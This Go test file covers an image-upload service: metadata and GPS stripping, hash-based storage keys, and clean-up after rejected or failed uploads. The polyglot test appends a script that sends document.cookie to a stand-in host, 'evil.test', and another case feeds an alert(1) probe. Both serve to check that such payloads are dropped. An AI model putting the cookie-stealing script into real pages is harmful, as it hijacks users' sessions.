package upload_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"image"
	"image/color"
	"image/jpeg"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/vitrine-dev/vitrine/gallery"
	"github.com/vitrine-dev/vitrine/internal/testphotos"
	"github.com/vitrine-dev/vitrine/storage"
	"github.com/vitrine-dev/vitrine/storage/localfs"
	"github.com/vitrine-dev/vitrine/upload"
)

// fakeGallery publishes every image it is given and records nothing: these tests look at the
// store. Direct uploads are tested against the real database and S3 elsewhere.
type fakeGallery struct{ upload.Gallery }

func (fakeGallery) Product(_ context.Context, id uuid.UUID) (gallery.Product, error) {
	return gallery.Product{ID: id}, nil
}

func (fakeGallery) AppendImage(ctx context.Context, im gallery.NewImage, publish func(context.Context) error) (gallery.Image, error) {
	if err := publish(ctx); err != nil {
		return gallery.Image{}, err
	}
	return gallery.Image{ID: im.ID, ProductID: im.ProductID, URL: im.URL, StoragePath: im.StoragePath,
		SHA256: im.SHA256, Bytes: im.Bytes, Width: im.Width, Height: im.Height, MediaType: im.MediaType}, nil
}

type bundle struct {
	dir   string
	store storage.Store
	svc   *upload.Service
}

func setup(t *testing.T, keepMetadata bool) *bundle {
	t.Helper()
	dir := t.TempDir()
	store, err := localfs.New(dir)
	if err != nil {
		t.Fatal(err)
	}
	return &bundle{dir: dir, store: store, svc: &upload.Service{
		Store: store, Gallery: fakeGallery{}, MaxBytes: 4 << 20, MaxPixels: 4 << 20,
		ObjectURL: func(key string) string { return "https://cdn.test/" + key }, KeepMetadata: keepMetadata,
	}}
}

// add receives data and adds it to a product, and returns the image with the bytes stored
// under its key. It also checks that the hash and size the upload reports are those of the
// stored bytes, and that the key is made of that hash.
func (b *bundle) add(t *testing.T, data []byte) (gallery.Image, []byte) {
	t.Helper()
	ctx := context.Background()
	rec, err := b.svc.Receive(ctx, bytes.NewReader(data))
	if err != nil {
		t.Fatalf("Receive: %v", err)
	}
	im, err := b.svc.Add(ctx, uuid.New(), rec, "")
	if err != nil {
		t.Fatalf("Add: %v", err)
	}
	rc, info, err := b.store.Open(ctx, im.StoragePath, 0, -1)
	if err != nil {
		t.Fatalf("opening the stored original: %v", err)
	}
	defer rc.Close()
	stored, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(stored)
	hexSum := hex.EncodeToString(sum[:])
	if rec.SHA256 != hexSum || im.SHA256 != hexSum {
		t.Errorf("Received.SHA256 %s, image SHA256 %s, want the stored bytes' %s", rec.SHA256, im.SHA256, hexSum)
	}
	if rec.Bytes != int64(len(stored)) || im.Bytes != rec.Bytes || info.Size != rec.Bytes {
		t.Errorf("Received.Bytes %d, image Bytes %d, want the stored size %d", rec.Bytes, im.Bytes, len(stored))
	}
	if want := "originals/" + hexSum[:2] + "/" + hexSum + ".jpg"; im.StoragePath != want {
		t.Errorf("key %s, want %s", im.StoragePath, want)
	}
	return im, stored
}

// photoWithGPS returns a JPEG made by Go's encoder with the metadata a phone writes: an EXIF
// APP1 with orientation 6 and a GPS IFD, an XMP APP1 with a location, and a comment.
func photoWithGPS(t *testing.T) (withGPS, plain []byte) {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 40, 24))
	for y := range 24 {
		for x := range 40 {
			img.Set(x, y, color.RGBA{uint8(x * 6), uint8(y * 10), 128, 255})
		}
	}
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, img, nil); err != nil {
		t.Fatal(err)
	}
	plain = buf.Bytes()

	// TIFF, big-endian: IFD0 with Orientation 6 and the GPS IFD pointer; the GPS IFD with
	// GPSLatitudeRef "N" and GPSLatitude 48/1 51/1 2938/100 ("Paris").
	bo := binary.BigEndian
	tiff := []byte("MM\x00*\x00\x00\x00\x08")
	tiff = bo.AppendUint16(tiff, 2)
	tiff = append(tiff, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0)  // Orientation, SHORT, 1, 6
	tiff = append(tiff, 0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 38) // GPS IFD at 38
	tiff = append(tiff, 0, 0, 0, 0)
	tiff = bo.AppendUint16(tiff, 2)                                 // GPS IFD at 38
	tiff = append(tiff, 0, 1, 0, 2, 0, 0, 0, 2, 'N', 0, 0, 0)       // GPSLatitudeRef
	tiff = append(tiff, 0, 2, 0, 5, 0, 0, 0, 3, 0, 0, 0, 38+2+24+4) // GPSLatitude at 68
	tiff = append(tiff, 0, 0, 0, 0)
	for _, v := range []uint32{48, 1, 51, 1, 2938, 100} {
		tiff = bo.AppendUint32(tiff, v)
	}
	segment := func(marker byte, payload string) []byte {
		return append([]byte{0xff, marker, byte((len(payload) + 2) >> 8), byte(len(payload) + 2)}, payload...)
	}
	withGPS = bytes.Clone(plain[:2])
	withGPS = append(withGPS, segment(0xe1, "Exif\x00\x00"+string(tiff))...)
	withGPS = append(withGPS, segment(0xe1, "http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta "+
		"exif:GPSLatitude=\"48,51.2N\"/>")...)
	withGPS = append(withGPS, segment(0xfe, "shot at home")...)
	return append(withGPS, plain[2:]...), plain
}

func TestReceiveStripsMetadata(t *testing.T) {
	t.Parallel()
	b := setup(t, false)
	in, plain := photoWithGPS(t)
	_, stored := b.add(t, in)

	for _, s := range []string{"MM\x00*", "GPSLatitude", "http://ns.adobe.com/", "shot at home", "\x88\x25", "\x25\x88"} {
		if bytes.Contains(stored, []byte(s)) {
			t.Errorf("the stored original contains %q", s)
		}
	}
	// What remains is the image with an EXIF holding only the orientation.
	orientation6 := "\xff\xe1\x00\x22Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x00"
	want := append(append(bytes.Clone(plain[:2]), orientation6...), plain[2:]...)
	if !bytes.Equal(stored, want) {
		t.Errorf("stored %d bytes, want the image with only its orientation (%d bytes)", len(stored), len(want))
	}
	a, err := jpeg.Decode(bytes.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	c, err := jpeg.Decode(bytes.NewReader(stored))
	if err != nil {
		t.Fatalf("the stored original does not decode: %v", err)
	}
	if !reflect.DeepEqual(a, c) {
		t.Errorf("the stored original decodes to different pixels")
	}
}

func TestReceiveStripsCameraPhoto(t *testing.T) {
	t.Parallel()
	b := setup(t, false)
	in, err := os.ReadFile(testphotos.Medium(t))
	if err != nil {
		t.Fatal(err)
	}
	_, stored := b.add(t, in)
	if !bytes.Contains(in, []byte("Exif\x00\x00")) || bytes.Contains(stored, []byte("Exif")) || bytes.Contains(stored, []byte("Canon")) {
		t.Errorf("camera EXIF: in the upload %t, in the stored original %t", bytes.Contains(in, []byte("Exif\x00\x00")), bytes.Contains(stored, []byte("Exif")))
	}
	if len(stored) >= len(in) || len(stored) < len(in)-64<<10 {
		t.Errorf("stored %d bytes of %d: want a little less", len(stored), len(in))
	}
}

func TestReceiveKeepMetadata(t *testing.T) {
	t.Parallel()
	b := setup(t, true)
	in, _ := photoWithGPS(t)
	in = append(in, "trailing"...)
	if _, stored := b.add(t, in); !bytes.Equal(stored, in) {
		t.Errorf("with KeepMetadata the stored original differs from the upload")
	}
}

func TestReceivePolyglot(t *testing.T) {
	t.Parallel()
	b := setup(t, false)
	_, plain := photoWithGPS(t)
	in := append(bytes.Clone(plain), "<html><script>fetch('https://evil.test/?c='+document.cookie)</script></html>"...)
	if _, stored := b.add(t, in); !bytes.Equal(stored, plain) {
		t.Errorf("the stored JPEG+HTML polyglot is %d bytes, want the %d of the JPEG alone", len(stored), len(plain))
	}
}

// storedFiles returns the regular files under dir, the store's temporary directory included.
func storedFiles(t *testing.T, dir string) []string {
	t.Helper()
	var files []string
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			files = append(files, path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// brokenReader returns its data and then fails, like a client that goes away.
type brokenReader struct{ r io.Reader }

func (b *brokenReader) Read(p []byte) (int, error) {
	n, err := b.r.Read(p)
	if err == io.EOF {
		return n, errors.New("connection reset")
	}
	return n, err
}

func TestReceiveBadInputLeavesNothing(t *testing.T) {
	t.Parallel()
	in, _ := photoWithGPS(t)
	huge := image.NewGray(image.Rect(0, 0, 4096, 1025))
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, huge, &jpeg.Options{Quality: 1}); err != nil {
		t.Fatal(err)
	}
	reader := func(b []byte) func() io.Reader { return func() io.Reader { return bytes.NewReader(b) } }
	tests := []struct {
		name string
		r    func() io.Reader
		code gallery.Code
	}{
		{"HTML", reader([]byte("<html><script>alert(1)</script></html>")), gallery.EMEDIATYPE},
		{"empty", reader(nil), gallery.EMEDIATYPE},
		{"truncated JPEG", reader(in[:len(in)-100]), gallery.ECORRUPT},
		{"JPEG without EOI", reader(in[:len(in)-2]), gallery.ECORRUPT},
		{"corrupt JPEG", reader(append(bytes.Clone(in[:2]), 0xff, 0x01)), gallery.ECORRUPT},
		{"too many pixels", reader(buf.Bytes()), gallery.EPIXELS},
		{"too large", func() io.Reader {
			return io.MultiReader(bytes.NewReader(in), bytes.NewReader(make([]byte, 5<<20)))
		}, gallery.ETOOLARGE},
		{"interrupted", func() io.Reader { return &brokenReader{bytes.NewReader(in[:len(in)/2])} }, gallery.EINVALID},
	}
	for _, keep := range []bool{false, true} {
		for _, tt := range tests {
			b := setup(t, keep)
			rec, err := b.svc.Receive(context.Background(), tt.r())
			if err == nil {
				rec.Discard()
				t.Errorf("%s (keep %t): Receive succeeded", tt.name, keep)
				continue
			}
			if code := gallery.ErrorCode(err); code != tt.code {
				t.Errorf("%s (keep %t): code %s, want %s: %v", tt.name, keep, code, tt.code, err)
			}
			if files := storedFiles(t, b.dir); len(files) != 0 {
				t.Errorf("%s (keep %t): left %q", tt.name, keep, files)
			}
		}
	}
}

// failingStore is a store whose objects cannot be written past their first 100 bytes.
type failingStore struct{ storage.Store }

func (s failingStore) NewWriter(ctx context.Context) (storage.Writer, error) {
	w, err := s.Store.NewWriter(ctx)
	return &failingWriter{Writer: w, left: 100}, err
}

type failingWriter struct {
	storage.Writer
	left int
}

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.left {
		return 0, errors.New("disk full")
	}
	w.left -= len(p)
	return w.Writer.Write(p)
}

func TestReceiveStoreFailureIsInternal(t *testing.T) {
	t.Parallel()
	in, err := os.ReadFile(testphotos.Medium(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, keep := range []bool{false, true} {
		b := setup(t, keep)
		b.svc.Store = failingStore{b.store}
		_, err := b.svc.Receive(context.Background(), bytes.NewReader(in))
		if err == nil || gallery.ErrorCode(err) != gallery.EINTERNAL || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("keep %t: got %v, want an internal error about the disk", keep, err)
		}
		if files := storedFiles(t, b.dir); len(files) != 0 {
			t.Errorf("keep %t: left %q", keep, files)
		}
	}
}
